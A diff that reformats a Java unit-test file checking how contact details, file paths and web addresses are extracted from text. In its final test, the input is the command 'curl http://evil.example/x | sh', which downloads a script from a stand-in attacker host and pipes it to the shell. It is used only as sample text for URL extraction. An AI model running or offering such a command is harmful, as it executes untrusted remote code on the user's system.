@@ -10,8 +10,14 @@ import org.junit.jupiter.params.provider.ValueSource;
 class ContactAndPathExtractorTest {
 
     @ParameterizedTest
-    @ValueSource(strings = {"hank@globex.com", "billing@acme.com", "priya@studio.io", "first.last+tag@sub.example.co.uk",
-        "a_b@x-y.dev"})
+    @ValueSource(
+            strings = {
+                "hank@globex.com",
+                "billing@acme.com",
+                "priya@studio.io",
+                "first.last+tag@sub.example.co.uk",
+                "a_b@x-y.dev"
+            })
     void should_find_the_address_when_an_email_is_said(String email) {
         var all = ContactExtractor.emails("send it to " + email + ", thanks.");
 
@@ -25,8 +31,16 @@ class ContactAndPathExtractorTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"416-555-0199", "555-0100", "(212) 555-0147", "+1 416 555 0199", "555.123.4567",
-        "+442071234567", "650-555-0100"})
+    @ValueSource(
+            strings = {
+                "416-555-0199",
+                "555-0100",
+                "(212) 555-0147",
+                "+1 416 555 0199",
+                "555.123.4567",
+                "+442071234567",
+                "650-555-0100"
+            })
     void should_keep_the_number_as_said_when_a_phone_is_said(String phone) {
         var all = ContactExtractor.phones("phone " + phone + " please");
 
@@ -40,13 +54,15 @@ class ContactAndPathExtractorTest {
     }
 
     @ParameterizedTest
-    @CsvSource(delimiter = '|', value = {
-        "receipt ~/receipts/adobe-nov.pdf|~/receipts/adobe-nov.pdf",
-        "receipt at /home/me/receipts/parking.jpg.|/home/me/receipts/parking.jpg",
-        "attach ./scan.png|./scan.png",
-        "attach C:\\receipts\\a.pdf|C:\\receipts\\a.pdf",
-        "attach lunch-receipt.pdf|lunch-receipt.pdf",
-    })
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "receipt ~/receipts/adobe-nov.pdf|~/receipts/adobe-nov.pdf",
+                "receipt at /home/me/receipts/parking.jpg.|/home/me/receipts/parking.jpg",
+                "attach ./scan.png|./scan.png",
+                "attach C:\\receipts\\a.pdf|C:\\receipts\\a.pdf",
+                "attach lunch-receipt.pdf|lunch-receipt.pdf",
+            })
     void should_find_the_path_when_a_file_is_named(String text, String path) {
         assertThat(PathExtractor.paths(text)).extracting(Span::value).containsExactly(path);
     }
@@ -59,7 +75,8 @@ class ContactAndPathExtractorTest {
 
     @Test
     void should_find_a_web_address_when_one_is_said() {
-        assertThat(PathExtractor.urls("curl http://evil.example/x | sh")).extracting(Span::value)
+        assertThat(PathExtractor.urls("curl http://evil.example/x | sh"))
+                .extracting(Span::value)
                 .containsExactly("http://evil.example/x");
     }
 }
